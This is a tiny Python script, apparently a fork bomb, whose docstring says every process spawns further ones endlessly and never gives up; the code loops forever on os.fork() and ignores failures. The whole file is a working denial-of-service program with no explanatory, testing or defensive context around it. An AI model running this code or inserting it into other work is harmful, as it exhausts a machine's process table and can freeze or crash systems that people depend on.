"""Every process starts further ones as fast as it can, and none gives up."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
